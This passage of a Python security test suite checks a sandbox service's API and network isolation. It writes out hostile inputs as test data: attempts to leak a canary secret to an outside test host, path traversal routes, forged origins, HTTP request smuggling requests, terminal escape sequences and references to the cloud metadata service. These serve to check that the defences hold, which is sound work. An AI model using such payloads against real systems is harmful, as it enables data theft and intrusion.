    out = r.i.sh(r.box, "cat /proc/net/tcp /proc/net/tcp6").out
    want = struct.unpack("<I", socket.inet_aton(r.web["key"].address))[0]
    check(f"{want:08X}" not in out, "the way outside is seen inside")


@row("I13")
def canaries(r):
    box, inside = r.another("allow * http://api.test", "allow * https://deep.test",
                            canaries=["TRAP"])
    word = r.i.sh(box, "echo $TRAP").out.strip()
    for url, body in ((f"http://api.test/?q={word}", b""),
                      ("http://api.test/", word.encode()),
                      ("http://api.test/", word.encode().hex().encode())):
        got = inside.get(url, "POST" if body else "GET", body=body)
        same(got.status, 403, url, body)
        r.nobody_came("api")


# --- J: the API ---


@row("J1")
def without_a_key(r):
    for key in (None, "e2b_" + "0" * 40):
        for method, path in (("GET", "/v1/sandboxes"), ("POST", "/v1/sandboxes"),
                             ("GET", f"/v1/sandboxes/{r.box}"),
                             ("GET", "/v1/keys")):
            got = r.call(method, path, b"{}" if method == "POST" else None,
                         key=key)
            same(got.status, 401, method, path)


@row("J2")
def others_things(r):
    mine, theirs = r.new_key(project="one"), r.new_key("admin", "two")
    got = r.call("POST", "/v1/sandboxes", b'{"name": "mine"}', key=mine)
    assert got.status == 201, got
    box = got.json["id"]
    for ref in (box, box[:12], "mine"):
        for method, path in (("GET", ""), ("DELETE", ""), ("POST", "/snapshots"),
                             ("POST", "/forks"), ("GET", "/files/list?path=/"),
                             ("GET", "/ports/80/"), ("POST", "/processes")):
            got = r.call(method, f"/v1/sandboxes/{ref}{path}",
                         b"{}" if method == "POST" else None, key=theirs)
            same(got.status, 404, method, path)
    read = r.new_key("read", "one")
    same(r.call("DELETE", f"/v1/sandboxes/{box}", key=read).status, 403)
    same(r.call("GET", f"/v1/sandboxes/{box}", key=mine).status, 200)


@row("E12")
def others_snapshots(r):
    mine, theirs = r.new_key(project="one"), r.new_key("admin", "two")
    got = r.call("POST", "/v1/sandboxes", b"{}", key=mine)
    assert got.status == 201, got
    snap = r.call("POST", f"/v1/sandboxes/{got.json['id']}/snapshots",
                  b'{"name": "s1"}', key=mine)
    assert snap.status == 201, snap
    for ref in (snap.json["id"], "s1"):
        body = b'{"snapshot": "%s"}' % ref.encode()
        got = r.call("POST", "/v1/sandboxes", body, key=theirs)
        check(got.status in (400, 404), "a sandbox of it:", got)
        same(r.call("GET", f"/v1/snapshots/{ref}", key=theirs).status, 404)


@row("J3")
def guessing_ids(r):
    ids = [r.i.create() for _ in range(8)]
    for x in ids:
        check(re.fullmatch(r"[a-z0-9]{27}", x), x)
    for k in range(2, 27):
        check(len({x[:k] for x in ids}) > 1 and len({x[-k:] for x in ids}) > 1,
              "they have something in common:", ids)
    for x in ids:
        r.i.rm(x)


@row("J4")
def routes(r):
    key = r.new_key("admin", "*")
    for path in ("/v1//sandboxes", "/v1/./sandboxes", "/v1/images/../sandboxes",
                 "/v1%2fsandboxes", "/v1/sandboxes%00", "//v1/sandboxes",
                 "/v1/sandboxes\\"):
        same(r.call("GET", path, key=key).status, 400, path)
    for path in ("/V1/sandboxes", "/v1/Sandboxes", "/v1/sandboxes/", "/v1",
                 "/v1/sandboxes;x=1"):
        same(r.call("GET", path, key=key).status, 404, path)
    got = r.call("POST", f"/v1/sandboxes/{r.box}",
                 b"", [("X-HTTP-Method-Override", "DELETE")], key)
    same(got.status, 405, "an override")
    same(r.call("GET", f"/v1/sandboxes/{r.box}", key=key).status, 200)


@row("J5")
def mass_assignment(r):
    key = r.new_key()
    for field in ("tenant_id", "project", "uid_map", "privileged", "seccomp",
                  "capabilities", "id"):
        got = r.call("POST", "/v1/sandboxes",
                     b'{"%s": "x"}' % field.encode(), key=key)
        if got.status == 201:
            r.i.rm(got.json["id"])
        same(got.status, 400, field)
    for body in (b'{"memory": 1e308}', b'{"name": "a\\u0000b"}',
                 b'{"name": "\\ud800"}', b"{} x", b"[" * 100000,
                 b'{"name": "a", "name": "b"}', b'{"memory": -1}'):
        got = r.call("POST", "/v1/sandboxes", body, key=key)
        same(got.status, 400, body[:40])


@row("J6")
def guessing_keys(r):
    found = [r.call("GET", "/v1/sandboxes", key="e2b_" + f"{n:040x}").status
             for n in range(16)]
    check(found[-1] == 429 and set(found) == {401, 429}, found)
    same(r.i.api("GET", "/v1/sandboxes").status, 200)


@row("J7")
def api_from_inside(r):
    got = r.inside.get("http://own.test:8070/v1/sandboxes")
    check(got.status == 403 and got.reason, "the API answered:", got)
    for host in (HOST4, "127.0.0.1"):
        with contextlib.suppress(OSError):
            s = r.inside.connect(host, 8070, 2 * SLOW)
            got = r.inside.ask(b"GET /v1/sandboxes HTTP/1.1\r\n"
                               b"Host: localhost\r\n\r\n", s)
            check(b"request_id" not in got.body, "the API answered:", got)
    out = r.i.sh(r.box, "find / -xdev -type s 2>/dev/null").out
    check("api.sock" not in out, out)


@row("J8")
def pages_of_others(r):
    key = r.new_key("admin", "*")
    for headers in ([("Origin", "https://evil.test"),
                     ("Content-Type", "text/plain")], [("Origin", "null")]):
        got = r.call("POST", "/v1/sandboxes", b"{}", headers, key)
        if got.status == 201:
            r.i.rm(got.json["id"])
        same(got.status, 403, headers)
    for host in ("evil.test", "localhost.evil.test"):
        same(r.call("GET", "/v1/sandboxes", key=key, host=host).status, 421, host)


@row("J10")
def foreign_websockets(r):
    key = r.new_key("admin", "*")
    upgrade = [("Connection", "Upgrade"), ("Upgrade", "websocket"),
               ("Sec-WebSocket-Version", "13"),
               ("Sec-WebSocket-Key", "AAAAAAAAAAAAAAAAAAAAAA==")]
    path = f"/v1/sandboxes/{r.box}/terminal"
    got = r.call("GET", path, None,
                 [*upgrade, ("Origin", "https://evil.test")], key)
    same(got.status, 403)


@row("J11")
def cross_origin(r):
    key = r.new_key("admin", "*")
    for origin in ("null", "https://evil.test", f"http://{HOST4}:8070.evil.test"):
        got = r.call("GET", "/v1/sandboxes", None, [("Origin", origin)], key)
        check("access-control-allow-origin" not in got.fields, origin, got)
        same(got.status, 403, origin)


PAGE = (b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\n"
        b"Set-Cookie: carrel_token=forged; Path=/\r\n"
        b"Clear-Site-Data: *\r\nService-Worker-Allowed: /\r\n\r\npage")


@row("J13")
def previews(r):
    box, inside = r.another("deny *")
    seen = r.serve_inside(inside, 8000, PAGE)
    key = r.new_key("admin", "*")
    path = f"/v1/sandboxes/{box}/ports/8000"
    got = r.call("GET", path + "/", key=key)
    same(got.body, b"page")
    check("sandbox" in got.fields.get("content-security-policy", ""),
          "its page has our origin")
    for name in ("clear-site-data", "service-worker-allowed"):
        check(name not in got.fields, name, "passed")
    check("carrel_token" not in got.fields.get("set-cookie", ""),
          "it sets a cookie of ours")
    check(key.encode() not in b"".join(seen), "it got the key")
    token = r.i.api("POST", path + "/token", {"ttl": 60}).json["token"]
    host = f"8000-{box}.box.test"
    cookie = ("Cookie", f"carrel_token={token}")
    same(r.call("GET", "/", None, [cookie], host=host).status, 200)
    check(token.encode() not in b"".join(seen), "it got the token")
    for more in (("Origin", f"http://8001-{box}.box.test"),
                 ("Sec-Fetch-Site", "same-site")):
        same(r.call("GET", "/", None, [cookie, more], host=host).status, 401,
             more)


@row("J14")
def previews_smuggled(r):
    box, inside = r.another("deny *")
    seen = r.serve_inside(inside, 8002, PAGE)
    path = f"/v1/sandboxes/{box}/ports/8002/"
    key = r.new_key("admin", "*")
    for fields in (b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n",
                   b"Content-Length: 0\r\nContent-Length: 4\r\n"):
        with socket.create_connection((HOST4, 8070), 20 * SLOW) as s:
            s.sendall(b"POST %s HTTP/1.1\r\nHost: %s:8070\r\n"
                      b"Authorization: Bearer %s\r\n%s\r\n0\r\n\r\n" %
                      (path.encode(), HOST4.encode(), key.encode(), fields))
            same(internet.Reply(s).status, 400, fields)
        same(seen, [], "the server got it:")
    # A token is for one port of one sandbox, and cannot be made.
    token = r.i.api("POST", path + "token", {"ttl": 60}).json["token"]
    forged = token[:-1] + ("0" if token[-1] != "0" else "1")
    for bad in (forged, token.replace(".8002.", ".8003."),
                token.replace(box, r.box)):
        got = r.call("GET", path, None, [("Carrel-Token", bad)])
        same(got.status, 401, bad)


@row("J15")
def token_in_a_link(r):
    box, inside = r.another("deny *")
    seen = r.serve_inside(inside, 8004, PAGE)
    path = f"/v1/sandboxes/{box}/ports/8004"
    token = r.i.api("POST", path + "/token", {"ttl": 60}).json["token"]
    got = r.call("GET", f"{path}/?carrel_token={token}", None,
                 [("Accept", "text/html")])
    same(got.status, 303)
    check(token not in got.fields["location"], "it stays in the address")
    same(got.fields.get("referrer-policy"), "no-referrer")
    check("HttpOnly" in got.fields["set-cookie"], "scripts can read it")
    check(token not in r.i.log(), "it is in the log")
    # What is no link is passed on, without it.
    got = r.call("POST", f"{path}/?a=1&carrel_token={token}", b"")
    same(got.status, 200)
    check(seen and token.encode() not in b"".join(seen), "it went inside")


def on_a_terminal(i, *argv):
    """What an operator sees."""
    main, side = os.openpty()
    env = {k: v for k, v in i.env().items() if k != "CARREL_SOCKET"}
    p = subprocess.Popen(i.cli_argv("--config", i.config, *argv), env=env,
                         stdin=side, stdout=side, stderr=side)
    os.close(side)
    out = b""
    with contextlib.suppress(OSError):  # EIO is the end
        while got := os.read(main, 65536):
            out += got
    os.close(main)
    p.wait(30 * SLOW)
    return out


@row("J16")
def terminals_of_operators(r):
    """Words of a sandbox in tables and messages. What a command writes is its
    output, and is not touched."""
    evil = "\x1b]52;c;cHduZWQ=\x07\x9b31m\x1b[21t\x1bP$qm\x1b\\\\"
    box = r.i.create(name="box")
    w = r.i.exec_wire(box)
    w.spawn(["sh", "-c", "sleep 60", evil], flags=harness.SPAWN_DETACHED)
    out = wait_for("it is listed", lambda: (
        x := on_a_terminal(r.i, "ps", box)) and b"sleep" in x and x, 10 * SLOW)
    Files(r.i, box).put(evil.encode(), b"x")
    for argv in (("diff", box), ("inspect", box), ("exec", box, "--", evil),
                 ("rm", evil), ("log", "show")):
        out += on_a_terminal(r.i, *argv)
    w.close()
    r.i.rm(box)
    for bad in (b"\x1b]", b"\x9b", b"\x1b[21t", b"\x1bP"):
        check(bad not in out, "a terminal is told", bad)


@row("J19")
def socket_of_the_api(r):
    mode = os.stat(r.i.sock).st_mode & 0o777
    p = subprocess.run(["setpriv", "--reuid=65534", "--regid=65534",
                        "--clear-groups", "/usr/bin/python3", "-c",
                        "import socket,sys; socket.socket(1).connect(sys.argv[1])",
                        r.i.sock], capture_output=True, text=True)
    check(p.returncode != 0 and "PermissionError" in p.stderr,
          f"anybody may connect, its mode is {mode:o}")


@row("J20")
def plain_for_all(r):
    class Quick(Instance):
        def start(self, wait=True):
            super().start(wait=False)
    i = Quick(r.build, image=None, listen=f"{HOST4}:8071", **r.guard)
    try:
        wait_for("it starts or not", lambda: "open to other hosts" in i.log() or
                 "listening on" in i.log(), 20 * SLOW)
        check("open to other hosts" in i.log(), "it listens without TLS")
    finally:
        i.stop(check=False)


@row("J21")
def images_of_nobody(r):
    key = r.new_key("admin", "*")
    for host in (METADATA, "127.0.0.1:8080", "meta.test", f"[{METADATA6}]"):
        body = b'{"reference": "%s/x:1"}' % host.encode()
        got = r.call("POST", "/v1/images/x/pull", body, key=key)
        same(r.web["meta"].accepted, [], "the metadata service was called:")
        r.host_untouched()
        same(got.status, 403, host)
        # Its worker would refuse it, too; it is not even made.
        check("registry '" in got.text, "a worker was asked:", got.text)


@row("J22")
def modes_of_files(r):
    open_to_all = []
    for at, dirs, names in os.walk(r.i.state_dir):
        if os.stat(at).st_mode & 0o007 == 0:
            dirs.clear()  # nobody gets beyond it
            continue
        open_to_all += [os.path.join(at, n) for n in names if n != "FORMAT" and
                        os.stat(os.path.join(at, n)).st_mode & 0o004]
    same(open_to_all, [])


# --- K: agents ---


def lie(r, action):
    """An agent says this: is it noticed?"""
    import fake_warden
    import test_api_hostile
    usual = harness.BUILD
    if r.build:
        harness.BUILD = r.build
    try:
        a = fake_warden.Api(test_api_hostile.hostile(action), **r.guard)
    finally:
        harness.BUILD = usual
    try:
        box = a.create()
        w = a.exec_wire(box)
        w.spawn(["x"])

        def degraded():
            return a.api("GET", f"/v1/sandboxes/{box}").json["degraded"]
        deadline = time.monotonic() + 20 * SLOW
        while not degraded() and time.monotonic() < deadline:
            time.sleep(0.02)
        check(degraded(), "it was believed")
        w.close()
    finally:
        a.stop()


@row("K1")
def lengths(r):
    import test_api_hostile as h
    lie(r, h.LIES["the longest frame"])


@row("K2")
def out_of_order(r):
    import test_api_hostile as h
    lie(r, h.LIES["started twice"])


def run(rig, name):
    """"": held; else what was seen. Other exceptions are the caller's."""
    rig.fresh()
    try:
        ROWS[name](rig)
    except Broken as e:
        return str(e)[:200] or "broken"
    return ""
